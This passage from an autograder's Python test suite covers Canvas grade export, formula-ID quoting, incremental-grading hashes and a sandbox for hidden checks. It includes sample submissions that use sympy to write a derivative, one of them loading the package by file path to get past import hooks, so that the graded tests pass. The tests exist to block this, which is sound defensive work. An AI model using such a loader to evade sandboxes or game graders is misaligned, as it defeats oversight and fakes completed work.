    canvas = tables["canvas.csv"]
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                         "Homework 1 (48213)"]  # fmt: skip
    by_id = {row[2]: row for row in canvas[2:]}
    assert by_id["alice"][1:3] == ["1001", "alice"] and by_id["alice"][5] == "2"
    assert by_id["erin"][5] == "", "a missing submission must be blank (Canvas: no change)"
    assert by_id["'" + FORMULA_IDS[0]][5] == "2", "the formula id is kept, quoted, with its grade"
    assert by_id["walkin"][5] == "", "a deleted submission must lose its grade"
    head = tables["grades.csv"][0]
    rows = [
        dict(zip(head, r, strict=True)) for r in tables["grades.csv"][1:] if len(r) == len(head)
    ]
    grades = {r["student_id"]: r for r in rows if r["assignment"] == "a1_functions"}
    assert float(grades["alice"]["score"]) == 2.0
    assert float(grades["walkin"]["score"]) == 0.0, grades["walkin"]
    assert grades["walkin"]["timestamp"] == "", grades["walkin"]
    items = {row[1]: row for row in tables["items.csv"][1:] if row[0] == "a1_functions"}
    assert items["walkin"][4] == "0.0" and items["alice"][4] == "2.0"
    warning = " ".join(r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING)
    assert "walkin" in warning, f"the unmatched-students warning misses walkin: {warning!r}"
    assert "alice" not in warning and "erin" not in warning, warning


def test_the_incremental_key_covers_every_file_that_makes_a_grade_or_a_page() -> None:
    """Issue 39 item 2: the key hashed the grader's ``*.py`` files only, so a fix to the
    typesetter's script or the feedback template regraded nothing. Every file of the grader is
    in it now (templates and tex_svg.js included), and the renderers' versions."""
    from torchlight_grader.course import dask

    hashed = {path for _, path in dask.grader_files()}
    grader = ROOT / "torchlight_grader"
    every = {p.resolve() for p in grader.rglob("*") if p.is_file()
             and "__pycache__" not in p.parts and p.suffix != ".pyc"}  # fmt: skip
    assert every - hashed == set(), sorted(every - hashed)
    for name in ("nbgrader/templates/feedback/torchlight.html.j2", "sandbox/inside/tex_svg.js"):
        assert (grader / name).resolve() in hashed, name
    assert {"nh3", "nbconvert", "mistune", "django-static-mathjax"} <= set(dask.RENDERERS)


SYMPY_EXP = """
class Exp(Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x._map("exp")

    @staticmethod
    def backward(ctx, grad_output):
        (x,) = ctx.saved_tensors
        sympy = _computer_algebra()
        s = sympy.Symbol("s")
        slope = sympy.lambdify(s, sympy.Derivative(sympy.exp(s), s).doit(), "numpy")
        return grad_output * tl.tensor(slope(x.detach().numpy()))
"""
BY_IMPORT = "def _computer_algebra():\n    import sympy\n    return sympy\n"
BY_PATH = """
def _computer_algebra():  # past any import hook: the package's files, loaded by their path
    import glob, importlib.util, sys
    for init in glob.glob(sys.prefix + "/lib/python3*/site-packages/sympy/__init__.py"):
        spec = importlib.util.spec_from_file_location("sympy", init)
        module = importlib.util.module_from_spec(spec)
        sys.modules["sympy"] = module
        spec.loader.exec_module(module)
        return module
    raise ImportError("no sympy files in sight")
"""


@pytest.mark.parametrize("route", [BY_IMPORT, BY_PATH], ids=["import", "by-path"])
def test_the_hidden_checks_import_only_what_they_need(route: str) -> None:
    """Issue 39 item 4: ``sympy.Derivative(...).doit()`` wrote the derivative and passed 11 of 11.
    The hidden-check sandbox now sees, of the environment's site-packages, only numpy, IPython,
    traitlets, torchlight and what they require: computer algebra is not there, by import or by
    its files' path, while the same notebook's feedback run and an honest answer are unchanged."""
    pytest.importorskip("sympy")  # in the environment (PyTorch requires it): the attack is real
    verdict = a1([("exp", route + SYMPY_EXP)], ["test_exp"])["test_exp"]
    assert not verdict.passed, "computer algebra wrote the derivative"
    assert "sympy" in verdict.message or "No module" in verdict.message, verdict.message
    honest = unary("Exp", 'x._map("exp")', "grad_output * x.exp()")
    assert a1([("exp", honest)], ["test_exp"])["test_exp"].passed
